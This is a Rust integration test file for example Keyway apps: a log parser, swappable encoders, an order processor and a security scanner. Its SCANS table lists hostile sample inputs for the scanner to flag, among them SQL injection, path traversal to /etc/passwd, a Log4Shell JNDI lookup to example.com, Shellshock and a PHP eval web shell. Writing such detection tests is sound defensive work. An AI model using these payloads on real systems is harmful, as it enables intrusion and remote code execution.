//! The examples, as their READMEs tell a user to try them. The marketplace has a file of its own.

use std::fs;

use keyway_testing::{Keyway, app, example};

#[test]
fn a_log_line_is_parsed() {
    let keyway = Keyway::up(example("log-pipeline"));
    let post = |path: &str, body: &str| keyway.request("POST", path, "", body.as_bytes());
    let parsed = post("/parse", "1772366400 WARN disk is full");
    assert_eq!(parsed.status, 200, "{parsed:?}");
    for part in
        ["\"timestamp\":1772366400", "\"severity\":\"WARN\"", "\"message\":\"disk is full\""]
    {
        assert!(parsed.body.contains(part), "{parsed:?}");
    }
    let malformed = post("/parse", "two parts");
    assert_eq!(malformed.status, 422, "{malformed:?}");
    assert_eq!(malformed.body.trim(), "{\"error\":\"Malformed log entry\"}");
}

#[test]
fn a_text_is_encoded_by_a_component_behind_another() {
    let keyway = Keyway::up(example("log-pipeline"));
    let ingested = keyway.request("POST", "/ingest", "", b"Keyway");
    assert_eq!((ingested.status, ingested.body.trim()), (200, "{\"encoded\":\"Lfzxbz\"}"));
}

#[test]
fn the_encoder_is_swapped_without_building_the_ingestor_again() {
    let keyway = Keyway::up(example("log-pipeline"));
    let ingest = |text: &str| keyway.request("POST", "/ingest", "", text.as_bytes()).body;
    // The surrogates are no characters, and the last character is followed by the first.
    for (text, encoded) in
        [("Größe 🦀", "Hs÷àf!🦁"), ("\u{d7ff}", "\u{e000}"), ("a\u{10ffff}", "b\\u0000")]
    {
        let expected = format!("{{\"encoded\":\"{encoded}\"}}\n");
        for encoder in ["encoder-go", "encoder"] {
            let file = example("log-pipeline").join(encoder).join(format!("{encoder}.wasm"));
            let swap =
                ["swap".as_ref(), "component".as_ref(), "encoder".as_ref(), file.as_os_str()];
            let swapped = keyway.ask(swap);
            assert_eq!(swapped.code, Some(0), "{encoder}: {}", swapped.stderr);
            assert_eq!(ingest(text), expected, "{encoder}: {text:?}");
        }
    }
}

#[test]
fn a_scanner_in_any_language_finds_the_same() {
    let grid = example("security-grid");
    let manifest = fs::read_to_string(grid.join("keyway.toml")).expect("the manifest");
    for scanner in ["scanner-cpp", "scanner"] {
        let manifest = manifest
            .replace("source = \"scanner-cpp\"", &format!("source = \"{scanner}\""))
            .replace("source = \"", &format!("source = \"{}/", grid.display()));
        let folder = app(&manifest);
        let keyway = Keyway::up(folder.path());
        for (payload, status, level, signature) in SCANS {
            let scanned = keyway.request("POST", "/scan", "", payload);
            let expected = format!("{{\"threat-level\":{level},\"signature\":\"{signature}\"}}\n");
            let about = String::from_utf8_lossy(payload);
            assert_eq!((scanned.status, scanned.body), (*status, expected), "{scanner}: {about}");
        }
        let nothing = keyway.request("POST", "/scan", "", b"");
        assert_eq!(nothing.status, 422, "{scanner}: {nothing:?}");
    }
}

/// What is sent, and what the scanners say to it.
const SCANS: &[(&[u8], u16, u8, &str)] = &[
    (b"hello", 200, 0, ""),
    (b"\0\xff\xfe", 200, 0, ""),
    (b"no MZ at the start, no \x7fELF either", 200, 0, ""),
    (&[0x90; 15], 200, 0, ""),
    (&[0x90; 17], 403, 9, "nop-sled"),
    (b"mz\x90\0", 403, 7, "windows-program"),
    (b"\x7fELF\x02\x01", 403, 7, "elf-program"),
    (b"/../../etc/passwd", 200, 4, "path-traversal"),
    (b"<ScRiPt>alert(1)</script>", 200, 5, "script-injection"),
    (b"1 UNION SELECT password FROM users", 200, 6, "sql-injection"),
    (b"name=' OR '1'='1", 200, 6, "sql-injection"),
    (b"<script>${JNDI:ldap://example.com/a}</script>", 403, 10, "log4shell"),
    (b"() { :;}; /bin/id", 403, 10, "shellshock"),
    (b"<?php eval(base64_decode($_POST['x']));", 403, 9, "php-web-shell"),
    (b"-----BEGIN RSA PRIVATE KEY-----", 403, 8, "private-key"),
    (
        b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
        403,
        10,
        "eicar-test-file",
    ),
];

#[test]
fn python_decides_about_what_rust_has_validated() {
    let keyway = Keyway::up(example("processing"));
    let process = |body: &str| {
        let answer = keyway.request("POST", "/process?id=42", "", body.as_bytes());
        (answer.status, answer.body.trim().to_owned())
    };
    for (payload, status, message) in [
        ("", 400, "Empty payload"),
        (r#"{"items": [{"price": 1250, "count": 3}]}"#, 200, "Processed 42: 37.50 euros"),
        (
            r#"{"items": [{"price": 999999, "count": 2}]}"#,
            202,
            "Processed 42: 19999.98 euros await approval",
        ),
        (r#"{"items": []}"#, 422, "The order 42 cannot be read: it has no list `items`"),
        (
            r#"{"items": [{"price": true, "count": 1}]}"#,
            422,
            "The order 42 cannot be read: an item has no `price` that is a whole number of 0 or more",
        ),
    ] {
        let expected = (status, format!("{{\"message\":\"{message}\"}}"));
        assert_eq!(process(payload), expected, "{payload}");
    }
    assert_eq!(process("no JSON").0, 422);
    assert_eq!(process(&"[".repeat(100_000)).0, 422);
}
